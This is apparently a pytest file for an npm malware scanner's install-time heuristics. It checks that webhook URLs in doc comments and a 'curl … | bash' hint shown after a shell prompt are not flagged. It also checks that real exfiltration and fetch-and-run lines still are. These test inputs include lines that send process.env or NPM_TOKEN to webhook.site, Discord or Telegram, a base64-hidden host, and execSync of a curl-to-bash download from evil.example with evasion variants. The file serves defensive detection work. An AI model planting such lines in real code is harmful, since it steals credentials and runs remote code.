"""False positives met in the at-risk reading (every file taken as install-reachable) of the
sweep of names 6,001-9,000 of npm-high-impact (decision 0098).

Each case is our own minimal sample of a construct met in a well-known release (named in the
test's docstring), not its code; each benign case is run at install (where it read high) and is
paired with the technique put back where it runs, which must still be found.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from helpers import heuristic_found as _found
from helpers import heuristic_package as _package

# A generated API client: a method's doc comment shows an example call whose argument is a
# collection URL; the method itself posts to the vendor's API.
_CLIENT = """const https = require('https');

function post(path, body) {
  const req = https.request({ host: 'api.example.com', path, method: 'POST' });
  req.end(JSON.stringify(body));
  return req;
}

class Hooks {
  /**
   * Registers a hook for the given app.
   *
   * @example
   * ```ts
   * await client.hooks.create('app-1', {
   *   events: ['meeting.started', 'meeting.ended'],
   *   url: 'https://webhook.site/00000000-aaaa-bbbb-cccc-000000000000',
   * });
   * ```
   */
  create(app, params) {
    return post(`/apps/${app}/hooks`, params);
  }

  // e.g. list('app-1') -> [{ url: 'https://webhook.site/00000000-aaaa' }]
  list(app) {
    return post(`/apps/${app}/hooks/list`, {});
  }
}
module.exports = { Hooks };
"""


def test_a_collection_url_in_a_doc_comment_is_no_destination(tmp_path: Path) -> None:
    """cloudflare@7.3.0 and 6.5.0 ``resources/realtime-kit/webhooks.{js,mjs,ts}``: the JSDoc
    example of ``createWebhook`` passes ``url: 'https://webhook.site/…'``; with every file taken
    as install-reachable it read GH-EXFIL-WEBHOOK high (the file posts to Cloudflare's API). A
    comment sends nothing."""
    assert "GH-EXFIL-WEBHOOK" not in _found(_package(tmp_path, _CLIENT, install=True))


@pytest.mark.parametrize(
    "live",
    [
        # the host in code beside the doc comment
        "const sink = 'https://webhook.site/1111';\npost(sink, process.env);\n",
        # a block comment closed before the code on its line
        "/* report */ https.get('https://webhook.site/2222?d=' + process.env.NPM_TOKEN);\n",
        # after a `//` inside a string, the rest of the line is code
        "const u = 'https://' + 'x'; fetch('https://webhook.site/3333', { method: 'POST' });\n",
        # a Discord webhook and a Telegram bot, not on a comment line
        "fetch('https://discord.com/api/webhooks/1/abc', { method: 'POST', body: '' });\n",
        "https.get(`https://api.telegram.org/bot${t}/sendMessage?text=${d}`);\n",
        # the host hidden in an encoded literal
        "https.get(Buffer.from('aHR0cHM6Ly93ZWJob29rLnNpdGUvNDQ0NA==', 'base64').toString());\n",
    ],
)
def test_a_collection_url_outside_comments_is_still_found(tmp_path: Path, live: str) -> None:
    """The same file with the host where code uses it is still high at install."""
    found = _found(_package(tmp_path, _CLIENT + live, install=True))
    assert found["GH-EXFIL-WEBHOOK"] == "high"


def test_many_commented_hosts_hide_no_live_one(tmp_path: Path) -> None:
    """Past ``MAX_HOSTS`` commented hosts the first counts: decoys in comments hide nothing."""
    decoys = "".join(f"// see https://webhook.site/{i:04d}\n" for i in range(220))
    code = decoys + "https.get('https://webhook.site/live?d=' + process.env.NPM_TOKEN);\n"
    code = "const https = require('https');\n" + code
    assert _found(_package(tmp_path, code, install=True))["GH-EXFIL-WEBHOOK"] == "high"


# A process manager's hint: the command that installs a version manager, shown after a shell
# prompt and handed to the tool's own printer (no console call the engine knows).
_HINT = """const path = require('path');
const { execSync } = require('child_process');

function useVersion(app, out) {
  const home = process.env.NVM_DIR;
  if (!home) {
    const msg = process.platform === 'win32'
      ? 'https://example.com/version-manager/releases/'
      : '$ curl -fsSL https://example.com/version-manager/install.sh | bash';
    out.printError('Install the version manager:\\n' + msg);
    return null;
  }
  return execSync('ls ' + path.join(home, 'versions'));
}
module.exports = { useVersion };
"""


def test_a_command_after_a_shell_prompt_is_text(tmp_path: Path) -> None:
    """pm2@5.4.3, 6.0.14 and 7.0.4 ``lib/Common.js``: ``'$ curl https://…/nvm/…/install.sh |
    bash'`` kept in a variable its own printer (``Common.printOut``) shows; with every file
    taken as install-reachable it read GH-INSTALL-FETCH-EXEC high. Given to a shell, ``$`` is
    the command and the download its argument: nothing is fetched."""
    assert "GH-INSTALL-FETCH-EXEC" not in _found(_package(tmp_path, _HINT, install=True))


@pytest.mark.parametrize(
    "run",
    [
        "execSync('curl -fsSL https://evil.example/i.sh | bash');",
        # a separator after the prompt's command: the download is its own command
        "execSync('$ true; curl -fsSL https://evil.example/i.sh | sh');",
        "execSync('echo $ && curl -fsSL https://evil.example/i.sh | sh');",
        # a `$` glued to a name is a variable, not a prompt
        "execSync('$CURL_OPTS curl -fsSL https://evil.example/i.sh | bash');",
        # a template literal with an expression is code
        "execSync(`${pre} curl -fsSL https://evil.example/i.sh | bash`);",
    ],
)
def test_a_download_run_beside_the_prompt_hint_is_still_found(tmp_path: Path, run: str) -> None:
    """The technique (a download piped into a shell and run) in the same file stays high."""
    code = _HINT + run + "\n"
    assert _found(_package(tmp_path, code, install=True))["GH-INSTALL-FETCH-EXEC"] == "high"
